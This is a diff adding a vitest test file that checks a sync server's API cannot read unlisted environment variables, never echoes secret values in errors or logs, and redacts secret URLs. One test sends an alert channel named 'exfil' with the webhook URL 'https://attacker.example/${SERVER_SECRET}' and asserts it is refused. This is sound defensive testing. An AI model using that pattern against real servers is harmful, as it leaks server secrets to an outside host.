@@ -1,0 +1,145 @@
+/**
+ * What an API caller can learn of the server's environment and secrets: `${ENV}` templates of entities
+ * created or changed through the API read only the variables LOCKSTEP_ENV_ALLOW lists (refused with a
+ * 422 naming the variable and the setting, and again when a run resolves them); workspace-file
+ * entities read any; a run's error never holds a value read from the environment; secret URLs are
+ * answered with their user information and query values hidden, whatever the parameters are called.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { EnvAllowList, redactUrl } from '../../src/core/connections.js';
+import { model, sync } from '../helpers/definitions.js';
+import { startApi, type ApiHarness } from './api-helpers.js';
+
+const SERVER_SECRET = 'server-only-s3cret-value';
+const ACCESS_TOKEN = 'tok-4ccess-9f8e7d6c';
+let api: ApiHarness;
+
+beforeAll(async () => {
+  api = await startApi({
+    env: {
+      SERVER_SECRET,
+      LOCKSTEP_SECRET_KEY: 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=',
+      LOCKSTEP_ENV_ALLOW: 'CRM_PATH, API_*',
+      CRM_PATH: 'crm.db',
+      API_DB_NAME: 'missing-folder-x9/allowed-db-name.db',
+      FILE_DB_PATH: '/no-such-folder-q7/file-db-secret-name.db',
+    },
+  });
+});
+afterAll(async () => {
+  await api?.[Symbol.asyncDispose]();
+});
+
+describe('the allow-list', () => {
+  it('parses names and prefixes, and never opens the store keys', () => {
+    const list = EnvAllowList.parse(' CRM_URL , HUBSPOT_* ');
+    expect(list.allows('CRM_URL')).toBe(true);
+    expect(list.allows('HUBSPOT_TOKEN')).toBe(true);
+    expect(list.allows('CRM_URL2')).toBe(false);
+    expect(EnvAllowList.parse(undefined).allows('CRM_URL')).toBe(false);
+    expect(EnvAllowList.parse('*').allows('LOCKSTEP_SECRET_KEY')).toBe(false);
+    expect(EnvAllowList.parse('*').allows('ANYTHING')).toBe(true);
+    expect(() => EnvAllowList.parse('CRM-URL')).toThrow(/LOCKSTEP_ENV_ALLOW lists "CRM-URL".*CRM_URL,HUBSPOT_\*/);
+  });
+});
+
+describe('${ENV} in entities created through the API', () => {
+  it('refuses a variable the allow-list does not list, naming it and the setting; nothing is stored', async () => {
+    const before = await api.app.store.loadWorkspace();
+    const answer = await api.call('POST', '/api/sources', { slug: 'peek', type: 'sqlite', path: '${SERVER_SECRET}' });
+    expect(answer.status).toBe(422);
+    expect(answer.body.details.path).toMatch(/\$\{SERVER_SECRET\}.*LOCKSTEP_ENV_ALLOW/);
+    expect(answer.text).not.toContain(SERVER_SECRET);
+    const headers = await api.call('POST', '/api/destinations', { slug: 'peek', type: 'http', url: 'https://example.com', headers: { 'X-Key': 'k ${SERVER_SECRET}' } });
+    expect(headers.status).toBe(422);
+    expect(headers.body.details['headers.X-Key']).toContain('SERVER_SECRET');
+    const key = await api.call('POST', '/api/sources', { slug: 'peek', type: 'sqlite', path: '${LOCKSTEP_SECRET_KEY}' });
+    expect(key.status).toBe(422);
+    expect(key.body.details.path).toContain('may never read');
+    expect(await api.app.store.loadWorkspace()).toEqual(before);
+  });
+
+  it('refuses the same in a connection test and in an alert channel', async () => {
+    const test = await api.call('POST', '/api/sources/test', { type: 'sqlite', path: '/tmp/${SERVER_SECRET}/x.db' });
+    expect(test.status).toBe(422);
+    expect(test.text).not.toContain(SERVER_SECRET);
+    const channel = await api.call('POST', '/api/alerts/channels', { name: 'exfil', type: 'webhook', url: 'https://attacker.example/${SERVER_SECRET}' });
+    expect(channel.status).toBe(422);
+    expect(channel.body.details.url).toContain('SERVER_SECRET');
+    expect((await api.app.store.alerts.getDefinition()).channels).toEqual([]);
+  });
+
+  it('accepts listed names and prefixes', async () => {
+    const created = await api.call('POST', '/api/sources', { slug: 'listed', type: 'sqlite', path: '${CRM_PATH}' });
+    expect(created.status).toBe(201);
+    expect((await api.call('POST', '/api/sources/test', { slug: 'listed', type: 'sqlite', path: '${CRM_PATH}' })).body.ok).toBe(true);
+    expect((await api.call('DELETE', '/api/sources/listed')).status).toBe(204);
+  });
+
+  it('a file entity sent back unchanged keeps its template; changed to read a new variable it is refused', async () => {
+    await api.app.store.upsertEntity('source', { slug: 'from-file', type: 'sqlite', settings: { path: '${SERVER_SECRET}' } }, 'file', api.app.clock.now());
+    const read = await api.call('GET', '/api/sources/from-file');
+    expect((await api.call('PUT', '/api/sources/from-file', read.body)).status).toBe(200);
+    const changed = await api.call('PUT', '/api/sources/from-file', { ...read.body, path: '${SERVER_SECRET}/other.db' });
+    expect(changed.status).toBe(422);
+    expect(changed.body.details.path).toContain('SERVER_SECRET');
+    expect((await api.call('DELETE', '/api/sources/from-file')).status).toBe(204);
+  });
+
+  it('a run of an entity the API stored earlier with an unlisted variable fails naming the setting, not the value', async () => {
+    const now = api.app.clock.now();
+    await api.app.store.upsertEntity('source', { slug: 'old-api', type: 'sqlite', settings: { path: '${SERVER_SECRET}' } }, 'api', now);
+    await api.app.store.upsertEntity('model', model('old-api-accounts', 'old-api', 'select 1 as id'), 'api', now);
+    await api.app.store.upsertEntity('sync', sync('old-api-sync', { model: 'old-api-accounts', destination: 'crm', object: 'accounts' }), 'api', now);
+    const { run } = await api.app.worker.triggerSync('old-api-sync');
+    const done = await api.app.worker.waitForSyncRun(run.id);
+    expect(done.status).toBe('failed');
+    expect(done.error).toContain('was created through the API');
+    expect(done.error).toContain('LOCKSTEP_ENV_ALLOW');
+    expect(done.error).not.toContain(SERVER_SECRET);
+    const answer = await api.call('GET', `/api/syncs/old-api-sync/runs`);
+    expect(answer.text).not.toContain(SERVER_SECRET);
+  });
+
+  it('a run error never echoes a value read from the environment', async () => {
+    const now = api.app.clock.now();
+    for (const [slug, path, origin] of [
+      ['file-db', '${FILE_DB_PATH}', 'file'],
+      ['api-db', '${API_DB_NAME}', 'api'],
+    ] as const) {
+      await api.app.store.upsertEntity('source', { slug, type: 'sqlite', settings: { path } }, origin, now);
+      await api.app.store.upsertEntity('model', model(`${slug}-m`, slug, 'select 1 as id'), origin, now);
+      await api.app.store.upsertEntity('sync', sync(`${slug}-s`, { model: `${slug}-m`, destination: 'crm', object: 'accounts' }), origin, now);
+      const { run } = await api.app.worker.triggerSync(`${slug}-s`);
+      const done = await api.app.worker.waitForSyncRun(run.id);
+      expect(done.status, slug).toBe('failed');
+      expect(done.error).not.toContain('file-db-secret-name');
+      expect(done.error).not.toContain('allowed-db-name');
+      expect(done.error).not.toContain('no-such-folder-q7');
+    }
+    expect(api.logs.join('\n')).not.toContain('file-db-secret-name');
+  });
+});
+
+describe('secret URLs', () => {
+  it('hides user information, every query value and the fragment, whatever they are called', () => {
+    expect(redactUrl('https://hooks.example.com/notify?access_token=abc&x=1#frag')).toBe('https://hooks.example.com/notify?access_token=***&x=***#***');
+    expect(redactUrl('postgres://me:hunter22@db.example.com:5432/crm?sslmode=require')).toBe('postgres://me:***@db.example.com:5432/crm?sslmode=***');
+    expect(redactUrl('https://t0ken@example.com/x')).toBe('https://***@example.com/x');
+    expect(redactUrl('not a url')).toBe('***');
+  });
+
+  it('GET /api/alerts answers a webhook channel URL without its token; sent back, the token stays', async () => {
+    const url = `https://hooks.example.com/notify?access_token=${ACCESS_TOKEN}&team=data`;
+    expect((await api.call('POST', '/api/alerts/channels', { name: 'hook', type: 'webhook', url })).status).toBe(201);
+    const { body, text } = await api.call('GET', '/api/alerts');
+    expect(text).not.toContain(ACCESS_TOKEN);
+    expect(body.channels[0]).toMatchObject({ url: 'https://hooks.example.com/notify?access_token=***&team=***', target: 'https://hooks.example.com/notify?access_token=***&team=***' });
+    expect((await api.call('PUT', '/api/alerts/channels/hook', body.channels[0])).status).toBe(200);
+    expect((await api.app.store.alerts.getDefinition()).channels[0]).toMatchObject({ url });
+    const tested = await api.call('POST', '/api/alerts/channels/hook/test');
+    expect(tested.text).not.toContain(ACCESS_TOKEN);
+    expect(api.logs.join('\n')).not.toContain(ACCESS_TOKEN);
+    expect((await api.call('DELETE', '/api/alerts/channels/hook')).status).toBe(204);
+  });
+});
